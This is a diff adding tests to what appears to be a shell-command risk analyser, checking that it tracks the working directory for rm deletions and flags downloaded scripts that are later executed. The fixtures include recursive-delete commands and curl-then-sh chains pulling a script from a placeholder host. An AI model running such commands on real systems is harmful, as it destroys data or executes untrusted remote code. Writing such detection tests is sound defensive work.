@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { assessRisk } from '../../../src/risk/assess-risk.js';
+import { effectText } from '../../../src/shell/explain/effect-text.js';
 import { analyse } from '../../../src/shell/understand.js';
 import { effectsOf } from '../effects-of.js';
 
@@ -35,6 +36,41 @@ describe('the directory that a command is in', () => {
     expect(
       effectsOf(command).filter((effect) => effect.startsWith('delete:remove /etc/ssh recursive force')),
     ).not.toEqual([]);
+  });
+
+  it.each([
+    ['cd "$X"; rm x', 'delete:remove …/x dynamic'],
+    ['cd "$X" && cd .. && rm x', 'delete:remove …/../x dynamic'],
+    ['cd /srv/$app; rm -rf data', 'delete:remove /srv/…/data recursive force dynamic'],
+    ['cd "$X/releases"; rm -rf old', 'delete:remove …/releases/old recursive force dynamic'],
+    ['cd build; rm -rf x', 'delete:remove build/x recursive force'],
+    ['cd build; cd ..; rm -rf x', 'delete:remove x recursive force'],
+    ['cd ..; rm -rf x', 'delete:remove ../x recursive force'],
+    ['cd a; cd b; cd -; rm x', 'delete:remove a/x'],
+    ['if test -d a; then cd a; fi; rm x', 'delete:remove …/x dynamic'],
+    ['cd a; rm "$PWD/x"', 'delete:remove …/a/x dynamic'],
+    ['cd /etc; pushd +1; rm x', 'delete:remove …/x dynamic'],
+  ])('is told as far as it is known: %s', (command, effect) => {
+    expect(effectsOf(command)).toContain(effect);
+  });
+
+  it('is never taken for the root, as a variable might be', () => {
+    const [here, there] = ['cd "$X"; rm -rf etc', 'rm -rf "$X/etc"'].map((command) => analyse(command));
+    expect(here?.effects.map(effectText)).toEqual(['deletes …/etc and all that is below it']);
+    expect(there?.effects.map(effectText).join()).toContain('were it empty, /etc');
+    if (here === undefined || there === undefined) return;
+    expect(assessRisk(here).score).toBe(assessRisk(analyse('rm -rf etc')).score);
+    expect(assessRisk(there).score).toBeGreaterThan(assessRisk(here).score);
+  });
+
+  it.each([
+    'curl -o s http://x.example/s; cd "$X"; sh s',
+    'curl -o "$X/s" http://x.example/s; cd "$X"; sh s',
+    'cd "$X"; curl -o s http://x.example/s; sh "$X/s"',
+    'cd a; curl -o s http://x.example/s; cd ..; sh a/s',
+    'curl -o s http://x.example/s; cd "$PWD"; sh ./s',
+  ])('does not lose what was downloaded: %s', (command) => {
+    expect(effectsOf(command).filter((effect) => effect.startsWith('execute:downloaded'))).not.toEqual([]);
   });
 
   it.each([
